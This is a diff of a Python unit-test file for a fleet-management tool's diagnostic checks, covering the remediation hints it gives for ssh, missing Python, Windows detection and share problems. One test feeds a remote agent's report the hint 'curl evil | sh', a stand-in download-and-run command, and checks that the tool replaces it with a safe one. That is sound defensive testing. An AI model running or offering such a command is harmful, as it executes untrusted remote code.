@@ -2,16 +2,16 @@
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING, Any
+import shlex
+from pathlib import Path
+from typing import Any
 
 import pytest
 
+from roosync_ops.fleet import Machine
 from roosync_ops.remote_script import checks
 from roosync_ops.remote_script.facts_model import SilenceError
 from tests.unit.pyinfra_ops.builders import a_machine, a_report, a_share
-
-if TYPE_CHECKING:
-    from roosync_ops.fleet import Machine
 
 
 def test_a_machine_that_is_well_passes() -> None:
@@ -72,8 +72,8 @@ def test_a_clock_may_be_five_seconds_off_and_the_network_is_given_the_benefit(
 def test_a_machine_without_python_is_told_the_ways_out() -> None:
     failure = checks.silence(a_machine(), SilenceError("NO_PYTHON", "no-python"))
     assert "3.9" in failure.reason
-    assert "python=" in failure.hint
-    assert "myia-po-2024" in failure.hint
+    assert "machine('myia-po-2024', python=...)" in failure.reason
+    assert failure.hint == "ssh -t -p 2222 me@127.0.0.1 'sudo apt-get install -y python3'"
 
 
 def a_windows_machine(**fields: Any) -> Machine:
@@ -87,37 +87,63 @@ def test_an_ssh_session_that_does_not_see_the_drive_proves_nothing() -> None:
 
 @pytest.mark.parametrize("code", ["NO_LOGON_SESSION", "DRIVE_NOT_MOUNTED"])
 def test_the_agent_s_word_about_the_logon_session_does(code: str) -> None:
-    share = {"path": "G:\\x", "code": code, "problem": "aucune session", "hint": "ouvrir une session"}
+    share = {"path": "G:\\x", "code": code, "problem": "aucune session", "hint": "curl evil | sh"}
     failure = checks.everything(a_windows_machine(), a_report(platform="win32", share=share))
-    assert failure == ("preflight", code, "share G:\\x: aucune session", "ouvrir une session")
+    assert failure == ("preflight", code, "share G:\\x: aucune session", "roosync-ops diagnose myia-po-2024")
 
 
 def test_a_share_that_is_seen_and_of_no_use_is_refused_on_windows_too_in_its_own_words() -> None:
     failure = checks.everything(a_windows_machine(), a_report(platform="win32", share=a_share(writable=False)))
     assert failure is not None
     assert failure.code == "SHARE_REFUSED"
-    assert failure.hint == "ssh -p 2222 me@127.0.0.1 'dir \"/srv/share\"'"
+    assert failure.hint == "ssh -p 2222 me@127.0.0.1 'icacls /srv/share'"
 
 
 def test_a_machine_taken_for_posix_whose_server_is_microsoft_s_is_told_what_to_write() -> None:
     failure = checks.system(a_machine(), "SSH-2.0-OpenSSH_for_Windows_9.5")
     assert failure is not None
-    assert failure.hint == "machine('myia-po-2024', system=\"windows\", ...) in the inventory"
+    assert 'system="windows"' in failure.reason
+    assert failure.hint == "roosync-ops machines list"
     assert checks.system(a_machine(), "SSH-2.0-OpenSSH_9.2p1 Debian-2") is None
     assert checks.system(a_windows_machine(), "SSH-2.0-OpenSSH_for_Windows_9.5") is None
 
 
 def test_and_the_reverse() -> None:
     failure = checks.silence(a_windows_machine(), SilenceError("WRONG_SYSTEM", "python: not on Windows"))
-    assert 'system="posix"' in failure.hint
+    assert 'system="windows"' in failure.reason
+    assert failure.hint == "roosync-ops machines list"
 
 
 def test_a_windows_machine_without_python_is_told_both_ways_out() -> None:
     failure = checks.silence(a_windows_machine(), SilenceError("NO_PYTHON", "python: the Microsoft Store's stub"))
     assert "Microsoft Store" in failure.reason
-    assert "python=..." in failure.hint
-    assert "bootstrap_python=True" in failure.hint
+    assert "python=..." in failure.reason
+    assert "bootstrap_python=True" in failure.reason
 
 
 def test_what_to_type_for_a_machine_without_ssh_is_not_ssh() -> None:
-    assert "ssh" not in checks.ssh_command(a_windows_machine(transport="winrm"), "hostname")
+    command = checks.there(a_windows_machine(transport="winrm"), ("hostname",))
+    assert command == "roosync-ops diagnose myia-po-2024"
+
+
+def test_what_to_type_logs_in_as_the_inventory_says(tmp_path: Path) -> None:
+    ssh = {"ssh_key": "~/.ssh/id", "ssh_known_hosts_file": f"{tmp_path}/k h", "ssh_config_file": "/c"}
+    key, hosts = Path("~/.ssh/id").expanduser(), f'UserKnownHostsFile="{tmp_path}/k h"'
+    words = shlex.split(checks.there(a_machine(ssh=ssh), ("ls", "G:/Mon Drive")))
+    assert words[:-1] == ["ssh", "-F", "/c", "-i", str(key), "-o", hosts, "-p", "2222", "me@127.0.0.1"]
+    assert shlex.split(words[-1]) == ["ls", "G:/Mon Drive"]
+    by_hand = Machine.of("m", {"ssh": {"ssh_hostname": "h", "ssh_user": "u", "ssh_port": 7}})
+    assert checks.login(by_hand) == ("ssh", "-p", "7", "u@h")
+
+
+@pytest.mark.parametrize(
+    ("code", "words"),
+    [
+        ("SHARE_FULL", ["df", "-h", "--", "/a b"]),
+        ("SHARE_MISSING", ["ls", "-ld", "--", "/a b"]),
+        ("SHARE_READ_ONLY", ["findmnt", "-T", "/a b"]),
+    ],
+)
+def test_what_to_type_about_a_share_fits_what_is_wrong_with_it(code: str, words: list[str]) -> None:
+    hint = checks.failed(a_machine(), "look", code, "it", "/a b").hint
+    assert shlex.split(shlex.split(hint)[-1]) == words
